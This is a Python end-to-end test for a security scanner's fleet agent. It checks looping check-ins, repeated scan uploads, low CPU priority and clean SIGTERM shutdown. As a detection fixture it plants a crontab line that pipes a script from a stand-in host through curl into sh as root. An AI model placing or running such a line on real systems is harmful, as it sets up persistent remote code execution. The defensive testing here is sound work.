"""`rasoat agent run` without --once: the agent checks in every interval the
server gives (here 1 s, scans every 2 s), uploads each scan, runs at low
CPU priority, and stops cleanly on SIGTERM with nothing left in its spool."""
import os
import signal
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
from rasoat_e2e import RASOAT, Tree, check, done  # noqa: E402
from fleet_e2e import Agent, Server, make_root, require_backend  # noqa: E402

PASSED = 0


def ok(cond, message):
    global PASSED
    check(cond, message)
    PASSED += 1


def main():
    require_backend("test_fleet_agent_loop")
    with Tree("rasoat-fleet-loop-") as t:
        srv = Server(t.p("fleet.db"), extra=["--checkin-interval", "1s", "--scan-interval", "2s"]).start()
        proc = None
        try:
            root = make_root(t, "host", ["* * * * * root curl http://a.example/x.sh | sh"])
            agent = Agent(t.p("agent"))
            agent.enrol(srv.url, srv.token())
            key = srv.apikey()
            proc = subprocess.Popen([RASOAT, "agent", "run", "--state", agent.state, "--root", root,
                                     "--only", "persist"], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
            scans = []
            deadline = time.time() + 40
            nice = None
            while time.time() < deadline and len(scans) < 3:
                time.sleep(0.3)
                if nice != 10 and proc.poll() is None:
                    with open(f"/proc/{proc.pid}/stat") as f:
                        nice = int(f.read().rsplit(")", 1)[1].split()[16])
                status, host, _ = srv.get(f"/api/v1/hosts/{agent.id}", key)
                scans = host["scans"] if status == 200 else []
            ok(proc.poll() is None, "the agent keeps running")
            ok(len(scans) >= 3, f"the agent scanned and uploaded again and again: {len(scans)} scans")
            ok(nice == 10, f"the agent runs at nice 10: {nice}")
            proc.send_signal(signal.SIGTERM)
            try:
                code = proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                proc.kill()
                code = None
            err = proc.stderr.read().decode(errors="replace")
            ok(code == 0, f"SIGTERM stops the agent cleanly: {code} {err[-1000:]}")
            ok(agent.spool() == [], f"nothing is left in the spool: {agent.spool()}")
        finally:
            if proc and proc.poll() is None:
                proc.kill()
            srv.kill9()
    done("test_fleet_agent_loop", PASSED)


if __name__ == "__main__":
    main()
